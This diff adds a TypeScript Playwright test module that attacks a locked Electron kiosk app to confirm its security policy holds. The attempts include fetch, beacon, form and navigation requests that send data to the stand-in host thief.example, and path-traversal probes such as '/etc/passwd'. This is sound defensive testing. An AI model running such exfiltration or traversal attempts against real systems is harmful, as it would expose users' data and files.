@@ -1,0 +1,323 @@
+/**
+ * The attacks of the list "A person who should not", carried out in the packaged program while it is locked. The program's
+ * own answers decide: its policy, its handlers of navigation, windows, requests, permissions and keys, and its calls.
+ */
+import type { Page } from '@playwright/test';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { stage } from './electron/stage.ts';
+import type { BrowserWindow } from './electron/windows.ts';
+import { stayInside } from './kiosk-lock.ts';
+
+interface Target {
+  readonly page: Page;
+  readonly window: BrowserWindow;
+}
+/** Returns what was not stopped. */
+type Attack = (target: Target) => Promise<readonly string[]>;
+
+/** Nobody answers there, and the stand-in lets no request out of the machine. */
+const elsewhere = 'http://thief.example';
+/** Time in which a navigation or a window that nobody stops begins, ms. */
+const beginMs = 500;
+
+/** Names the outcomes that are not the ones that were expected. */
+const unlike = (
+  found: Readonly<Record<string, unknown>>,
+  expected: Readonly<Record<string, unknown>>,
+): string[] =>
+  Object.entries(found)
+    .filter(([name, outcome]) => outcome !== expected[name])
+    .map(([name, outcome]) => `${name}: ${String(outcome)}`);
+
+/** Runs a script in the page that tries to leave it, and tells where the page is afterwards. */
+async function leaves(page: Page, script: string): Promise<readonly string[]> {
+  const before = page.url();
+  await page.evaluate(script);
+  await sleep(beginMs);
+  return page.url() === before ? [] : [`the page went to ${page.url()}`];
+}
+
+const keys: Readonly<
+  Record<string, { readonly key: string; readonly code?: string; readonly alone?: boolean }>
+> = {
+  reload: { key: 'r', code: 'KeyR' },
+  find: { key: 'f', code: 'KeyF' },
+  'zoom in': { key: '+' },
+  'zoom out': { key: '-' },
+  tools: { key: 'i', code: 'KeyI' },
+  print: { key: 'p', code: 'KeyP' },
+  save: { key: 's', code: 'KeyS' },
+  'new window': { key: 'n', code: 'KeyN' },
+  'history list': { key: 'h', code: 'KeyH' },
+  close: { key: 'w', code: 'KeyW' },
+  quit: { key: 'q', code: 'KeyQ' },
+  'reload by F5': { key: 'F5', alone: true },
+  menu: { key: 'F10', alone: true },
+  'full screen': { key: 'F11', alone: true },
+  'tools by F12': { key: 'F12', alone: true },
+  'back by its key': { key: 'BrowserBack', alone: true },
+};
+const none = { control: false, meta: false, alt: false, shift: false };
+const modifiers = [
+  { control: true },
+  { control: true, shift: true },
+  { meta: true },
+  { meta: true, alt: true },
+] as const;
+
+export const attacks: Readonly<Record<string, Attack>> = {
+  'no Node in the page': async ({ page }) =>
+    page.evaluate(() =>
+      ['require', 'process', 'module', 'Buffer', '__dirname'].filter((name) => name in globalThis),
+    ),
+
+  'no inline script and no evaluation of text': async ({ page }) => {
+    const found = await page.evaluate(
+      () =>
+        // In a task of its own, because code that the debugger evaluates is exempt from the policy.
+        new Promise<Record<string, unknown>>((resolve) => {
+          setTimeout(() => {
+            const outcomeOf = (work: () => unknown): string => {
+              try {
+                return String(work());
+              } catch (error) {
+                return error instanceof Error ? error.name : 'refused';
+              }
+            };
+            const script = document.createElement('script');
+            outcomeOf(() => {
+              script.textContent = 'globalThis.broken = true';
+            });
+            document.body.append(script);
+            resolve({
+              inline: 'broken' in globalThis,
+              evaluated: outcomeOf(() => globalThis.eval('"ran"') as unknown),
+              markup: outcomeOf(() => (document.createElement('p').innerHTML = '<b>text</b>')),
+            });
+          });
+        }),
+    );
+    return unlike(found, { inline: false, evaluated: 'EvalError', markup: 'TypeError' });
+  },
+
+  'nothing is loaded from elsewhere, and nothing sent there': async ({ page }) => {
+    const found = await page.evaluate(async (address) => {
+      const refused: Record<string, string> = {};
+      const outcomes: Record<string, unknown> = {};
+      document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
+        refused[blockedURI] = effectiveDirective;
+      });
+      const image = new Image();
+      const loaded = new Promise<string>((resolve) => {
+        image.addEventListener('load', () => resolve('loaded'));
+        image.addEventListener('error', () => resolve('refused'));
+      });
+      image.src = `${address}/pixel.svg`;
+      outcomes['image'] = await loaded;
+      outcomes['fetch'] = await fetch(`${address}/fetch`, { method: 'POST', body: 'x' }).then(
+        () => 'sent',
+        () => 'refused',
+      );
+      outcomes['module'] = await import(`${address}/module.js`).then(
+        () => 'loaded',
+        () => 'refused',
+      );
+      navigator.sendBeacon(`${address}/beacon`, 'x');
+      const frame = document.createElement('iframe');
+      frame.src = `${address}/frame.html`;
+      document.body.append(frame);
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      frame.remove();
+      outcomes['beacon'] = refused[`${address}/beacon`];
+      outcomes['frame'] = refused[`${address}/frame.html`] ?? refused[address];
+      return outcomes;
+    }, elsewhere);
+    const expected = {
+      image: 'refused',
+      fetch: 'refused',
+      module: 'refused',
+      beacon: 'connect-src',
+      frame: 'frame-src',
+    };
+    return unlike(found, expected);
+  },
+
+  'no new window': async ({ page }) => {
+    const before = page.url();
+    await page.evaluate((address) => {
+      window.open(`${address}/window`);
+      const link = Object.assign(document.createElement('a'), {
+        href: `${address}/blank`,
+        target: '_blank',
+        rel: 'opener',
+        id: 'attack',
+        textContent: 'Elsewhere',
+      });
+      link.style.cssText = 'position: fixed; inset: 0 auto auto 0; z-index: 9';
+      document.body.append(link);
+      link.click();
+    }, elsewhere);
+    const link = page.locator('#attack');
+    await link.click({ button: 'middle' });
+    await sleep(beginMs);
+    await link.evaluate((element) => element.remove());
+    const windows = page
+      .context()
+      .pages()
+      .filter((one) => one.url().startsWith(elsewhere));
+    return [
+      ...windows.map((one) => `a window shows ${one.url()}`),
+      ...(page.url() === before ? [] : ['the page left']),
+    ];
+  },
+
+  'no navigation by an address': ({ page }) =>
+    leaves(page, `location.href = '${elsewhere}/leave?customer=Ada'`),
+  'no form post': ({ page }) =>
+    leaves(
+      page,
+      `const form = Object.assign(document.createElement('form'), { action: '${elsewhere}/form', method: 'post' });
+       document.body.append(form); form.submit(); form.remove();`,
+    ),
+  'no meta refresh': ({ page }) =>
+    leaves(
+      page,
+      `const refresh = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${elsewhere}/refresh' });
+       document.head.append(refresh); setTimeout(() => refresh.remove(), 200);`,
+    ),
+  'no dropped file or address': ({ page }) =>
+    leaves(
+      page,
+      `for (const type of ['text/uri-list', 'text/plain']) {
+         const dataTransfer = new DataTransfer();
+         dataTransfer.setData(type, '${elsewhere}/dropped');
+         dataTransfer.items.add(new File(['<script>'], 'dropped.html', { type: 'text/html' }));
+         for (const name of ['dragenter', 'dragover', 'drop']) {
+           const event = new DragEvent(name, { dataTransfer, bubbles: true, cancelable: true });
+           document.body.dispatchEvent(event);
+           if (name !== 'dragenter' && !event.defaultPrevented) throw new Error(name + ' is open');
+         }
+       }`,
+    ),
+
+  'no place, microphone, screen, notification, USB or clipboard': async ({ page }) => {
+    const found = await page.evaluate(async () => {
+      const outcomeOf = (work: () => Promise<unknown>): Promise<string> =>
+        work().then(
+          () => 'open',
+          (error: unknown) => (error instanceof Error ? error.name : 'refused'),
+        );
+      const place = new Promise<string>((resolve) => {
+        navigator.geolocation.getCurrentPosition(
+          () => resolve('open'),
+          ({ code, PERMISSION_DENIED }) => resolve(code === PERMISSION_DENIED ? 'denied' : 'asked'),
+        );
+      });
+      const { usb } = navigator as unknown as { usb: { getDevices(): Promise<unknown> } };
+      return {
+        microphone: await outcomeOf(() => navigator.mediaDevices.getUserMedia({ audio: true })),
+        screen: await outcomeOf(() => navigator.mediaDevices.getDisplayMedia()),
+        clipboard: await outcomeOf(() => navigator.clipboard.readText()),
+        usb: await outcomeOf(() => usb.getDevices()),
+        place: await place,
+        notifications: Notification.permission,
+      };
+    });
+    const refused = {
+      microphone: 'NotAllowedError',
+      screen: 'NotAllowedError',
+      clipboard: 'NotAllowedError',
+    };
+    return unlike(found, { ...refused, usb: 'SecurityError', place: 'denied', notifications: 'denied' });
+  },
+
+  'no file behind the photo route': async ({ page }) =>
+    page.evaluate(async () => {
+      const zeros = '0'.repeat(32);
+      const paths = [
+        ...['../package.json', '..%2f..%2fpackage.json', '/etc/passwd', 'C:%5cx', '%5c%5chost%5cx', '%00'],
+        ...['img_0', `img_${zeros}`, `img_${zeros}/../../package.json`, `ord_${zeros}`],
+      ];
+      const open: string[] = [];
+      for (const path of paths) {
+        const { status } = await fetch(`/photo/${path}`);
+        if (status < 400) open.push(`${path}: ${status}`);
+      }
+      return open;
+    }),
+
+  'no call of another shape, with a long text or an id of another kind': async ({ page }) => {
+    const found = await page.evaluate(async () => {
+      const bridge = Reflect.get(globalThis, 'headroom') as Record<
+        string,
+        (args?: unknown) => Promise<unknown>
+      >;
+      const codeOf = async (name: string, args: unknown): Promise<unknown> => {
+        const answer = (await bridge[name]?.(args)) as { ok: boolean; error?: { code: string } };
+        return answer.ok ? 'answered' : answer.error?.code;
+      };
+      const zeros = '0'.repeat(32);
+      return {
+        shape: await codeOf('openOrder', { order: [] }),
+        more: await codeOf('openOrder', { orderId: `ord_${zeros}`, more: 1 }),
+        long: await codeOf('findOrders', { text: 'x'.repeat(1_000_000) }),
+        kind: await codeOf('openOrder', { orderId: `cus_${zeros}` }),
+        path: await codeOf('keepScreen', { screen: '//thief.example/' }),
+        generic: ['invoke', 'send', 'on', 'ipcRenderer'].some((name) => name in bridge),
+      };
+    });
+    const refused = 'INVALID_INPUT';
+    return unlike(found, {
+      shape: refused,
+      more: refused,
+      long: refused,
+      kind: refused,
+      path: refused,
+      generic: false,
+    });
+  },
+
+  'no call from a frame inside the page': async ({ page }) => {
+    await page.evaluate(() => document.body.append(document.createElement('iframe')));
+    const inner = page.frames().filter((frame) => frame !== page.mainFrame());
+    const answers = await Promise.all(
+      inner.map((frame) =>
+        frame.evaluate(async () => {
+          // The stand-in's own way to the main process, which a frame in Electron does not even have.
+          const invoke = Reflect.get(globalThis, 'invokeElectron') as (name: string) => Promise<unknown>;
+          const answer = (await invoke('headroom:desk')) as { ok: boolean; error?: { code: string } };
+          return { bridge: 'headroom' in globalThis, answer: answer.ok ? 'answered' : answer.error?.code };
+        }),
+      ),
+    );
+    await page.evaluate(() => document.querySelector('iframe')?.remove());
+    if (answers.length === 0) return ['there was no frame'];
+    return answers.flatMap((answer) => unlike(answer, { bridge: false, answer: 'FOREIGN_SENDER' }));
+  },
+
+  'no key of a browser, with any modifier': async ({ page, window }) => {
+    const open = Object.entries(keys).flatMap(([name, { key, code = '', alone = false }]) =>
+      [...modifiers, ...(alone ? [{}] : [])]
+        .filter((held) => !window.webContents.press({ ...none, ...held, key, code, type: 'keyDown' }))
+        .map((held) => `${name} with ${Object.keys(held).join(' and ') || 'no modifier'}`),
+    );
+    for (const key of ['ArrowLeft', 'ArrowRight', 'Home', 'F4', ' '])
+      if (!window.webContents.press({ ...none, alt: true, key, code: '', type: 'keyDown' }))
+        open.push(`Alt+${key}`);
+    if (window.webContents.press({ ...none, key: 'r', code: 'KeyR', type: 'keyDown' }))
+      open.push('typing is refused');
+    await stayInside(page);
+    return open;
+  },
+};
+
+/** Carries out every attack. @throws Error that names what was not stopped */
+export async function attack(page: Page, window: BrowserWindow): Promise<void> {
+  const faults: string[] = [];
+  for (const [name, one] of Object.entries(attacks)) {
+    const found = await one({ page, window }).catch((error: unknown) => [String(error)]);
+    faults.push(...found.map((fault) => `${name}: ${fault}`));
+  }
+  faults.push(...stage.letOut.map((address) => `the program let ${address} out`));
+  if (faults.length > 0) throw new Error(`A locked kiosk is open:\n${faults.join('\n')}`);
+}
